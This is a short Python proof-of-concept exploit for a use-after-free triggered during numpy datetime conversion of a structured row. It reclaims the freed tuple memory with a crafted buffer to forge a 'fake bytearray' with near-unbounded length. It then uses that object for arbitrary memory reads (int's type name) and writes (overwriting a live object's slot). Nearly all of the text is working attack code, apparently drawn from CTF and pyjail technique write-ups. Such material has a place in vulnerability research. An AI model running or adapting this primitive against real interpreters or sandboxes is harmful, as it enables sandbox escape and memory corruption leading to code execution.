# source: numpy 1.24 _datetime.c convert_pydatetime_to_datetimestruct (PyObject_GetAttrString(obj, "year")) + arraytypes.c.src VOID_setitem (PyTuple_GetItem on a borrowed row tuple); CPython fake-bytearray technique (pyjail/CTF UAF write-ups)
# family: conversion callback via a property numpy reads during datetime conversion of a structured row -> row tuple freed -> stale field pointer reclaimed by a bytearray buffer -> fake bytearray
# goal: arbitrary memory read (tp_name of int) and write (overwrites a slot of a live object)
import numpy as np

MASK = (1 << 64) - 1


def addr_of_type(t):
    h = hash(t) & MASK
    return ((h << 4) | (h >> 60)) & MASK


def q(v):
    return (v & MASK).to_bytes(8, "little")


keep = []
state = {"done": False}
rows = []
L = 2000
fake = q(1 << 40) + q(addr_of_type(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
fake = fake + bytes(L + 32 - len(fake))


class Day:
    month = 1
    day = 1

    def __init__(self):
        self.n = 0

    @property
    def year(self):
        if not state["done"]:
            state["done"] = True
            keep.append(self)
            rows.clear()
            keep.append(bytearray(fake))
        return 2000


rows.append((Day(), bytes(L)))
arr = np.array(rows, dtype=[("d", "M8[D]"), ("o", "O")])
f = arr[0]["o"]
print(type(f), len(f) > 10**15)
base = addr_of_type(int)
p = int.from_bytes(bytes(f[base + 24:base + 32]), "little")
print("tp_name of int read from memory:", bytes(f[p:p + 3]))


class Box:
    __slots__ = ("v",)


box = Box()
box.v = 1
where = addr_of_type(box)
f[where + 16:where + 24] = q(addr_of_type(bytearray))
print("box.v after a write through the fake bytearray:", box.v)
